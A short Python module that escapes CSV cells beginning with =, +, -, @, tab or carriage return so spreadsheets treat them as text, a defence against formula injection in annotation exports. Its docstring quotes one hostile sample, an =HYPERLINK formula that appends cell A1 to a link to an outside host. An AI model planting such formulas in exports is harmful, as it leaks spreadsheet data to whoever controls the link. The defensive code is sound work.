"""CSV cells that a spreadsheet would run as a formula are written as text.

Exports put people's text in CSV cells: span notes, annotator names, judges'
reasoning, metadata. Excel, LibreOffice and Google Sheets run a cell that
begins with ``=``, ``+``, ``-`` or ``@`` (and, in some versions, a tab or a
carriage return before one) as a formula, so an annotator's note such as
``=HYPERLINK("http://…?"&A1, "click")`` would become live in the admin's
spreadsheet (CSV or formula injection). A text cell that begins with one of
them gets a leading apostrophe, which every spreadsheet reads as "this is
text" and hides. Numbers are left as they are (a negative number is a number,
not a formula). The JSONL exports keep every text exactly; the README says so.
"""

from __future__ import annotations

from typing import Any

FORMULA_STARTS = ("=", "+", "-", "@", "\t", "\r")


def text_cell(value: Any) -> Any:
    """``value`` for a CSV cell: a string that a spreadsheet would run as a formula gets a leading apostrophe."""
    if isinstance(value, str) and value.startswith(FORMULA_STARTS):
        return "'" + value
    return value


def text_row(values: list[Any]) -> list[Any]:
    """Each cell of a CSV row through ``text_cell``."""
    return [text_cell(value) for value in values]
